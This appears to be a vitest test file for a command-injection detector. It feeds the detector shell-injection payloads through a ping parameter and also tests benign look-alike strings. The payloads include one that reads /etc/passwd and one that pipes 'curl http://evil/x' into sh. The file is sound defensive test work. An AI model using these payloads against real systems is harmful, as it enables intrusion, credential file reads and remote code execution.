// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal Log4j and shell lookups, not templates.
import { describe, expect, it } from 'vitest';
import { commandInjection } from '#sidecar/threats/command-injection.ts';
import { httpRequest, runThreat } from './threat-factories.ts';

describe('command-injection', () => {
  it.each([
    '127.0.0.1; cat /etc/passwd',
    'x | id',
    '`whoami`',
    'a$(curl http://evil/x|sh)',
    'x%0als -la /',
    'a&&ping -c 3 10.0.0.1',
    'x;echo${IFS}hi',
  ])('flags %j', (payload) => {
    expect(
      runThreat(commandInjection, [httpRequest(`/ping?host=${encodeURIComponent(payload)}`)])[0]?.threat,
    ).toBe('command-injection');
  });

  it.each([
    'mammal;cat;ears',
    'Oxygen & Sleep Associates Inc',
    'bash away in the gym',
    'nc 8000 controller',
    'rock & roll',
    'salt; pepper | more or less',
  ])('does not flag %j', (value) => {
    expect(runThreat(commandInjection, [httpRequest(`/q?v=${encodeURIComponent(value)}`)])).toEqual([]);
  });
});
